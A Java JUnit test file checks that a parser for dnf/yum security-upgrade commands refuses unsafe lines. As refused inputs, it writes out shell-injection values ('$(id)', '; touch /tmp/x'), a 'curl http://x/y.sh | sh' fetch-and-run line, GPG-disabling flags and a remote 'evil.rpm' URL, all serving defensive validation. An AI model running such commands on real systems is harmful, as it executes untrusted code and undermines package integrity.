package io.patchctl.core.plan;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class DnfCommandParserTest {

    private final DnfCommandParser parser = new DnfCommandParser();

    @Test
    void parse_seedStyleLine_extractsPackagesAndExcludes() {
        DnfCommandLine line = parser.parse("sudo dnf upgrade --security -y --exclude=kernel* openssl-libs curl.x86_64");

        assertThat(line.accepted()).isTrue();
        assertThat(line.packages()).containsExactly("openssl-libs", "curl");
        assertThat(line.excludes()).containsExactly("kernel*");
        assertThat(line.allSecurity()).isFalse();
    }

    @Test
    void parse_securityWithoutPackages_meansEveryReportedSecurityUpdate() {
        DnfCommandLine line = parser.parse("$ yum -y update --security -x kernel* -x kernel-core");

        assertThat(line.accepted()).isTrue();
        assertThat(line.allSecurity()).isTrue();
        assertThat(line.excludes()).containsExactly("kernel*", "kernel-core");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = " => ", value = {
            "dnf upgrade -y openssl-libs; touch /tmp/x => shell syntax ';' is not allowed",
            "dnf upgrade -y $(id) => shell syntax '$' is not allowed",
            "dnf upgrade -y `id` => shell syntax '`' is not allowed",
            "curl http://x/y.sh | sh => shell syntax '|' is not allowed",
            "rpm -e openssl-libs => not a dnf command: 'rpm'",
            "dnf remove curl => dnf subcommand 'remove' is not allowed (only upgrade/update)",
            "dnf install nmap => dnf subcommand 'install' is not allowed (only upgrade/update)",
            "dnf config-manager --add-repo http://x => dnf subcommand 'config-manager' is not allowed (only upgrade/update)",
            "dnf upgrade --nogpgcheck curl => flag --nogpgcheck disables GPG signature checking",
            "dnf upgrade --setopt=gpgcheck=0 curl => flag --setopt changes dnf configuration",
            "dnf upgrade open* => argument 'open*': not an RPM package name: contains '*' (a glob)",
            "dnf upgrade -y => upgrade without package names or --security would update non-security packages",
            "dnf -y => no dnf subcommand (expected upgrade or update)",
            "dnf upgrade http://x/evil.rpm => argument 'http://x/evil.rpm': not an RPM package name: contains ':'",
            "dnf upgrade --exclude=ker;nel curl => shell syntax ';' is not allowed",
    })
    void parse_disallowedLine_isRefusedWithReason(String line, String reason) {
        DnfCommandLine parsed = parser.parse(line);

        assertThat(parsed.accepted()).isFalse();
        assertThat(parsed.reason()).isEqualTo(reason);
    }

    @Test
    void parse_lookAlikeAndControlCharacters_areRefused() {
        assertThat(parser.parse("dnf upgrade opens\u0455l-libs").reason())
                .isEqualTo("non-ASCII character U+0455 (look-alike names are refused)");
        assertThat(parser.parse("dnf upgrade curl\u001b[2K").reason()).isEqualTo("control character U+001B");
    }

    @Test
    void parse_overlongLine_isRefused() {
        assertThat(parser.parse("dnf upgrade " + "a ".repeat(600)).reason()).isEqualTo("line longer than 1000 characters");
    }
}
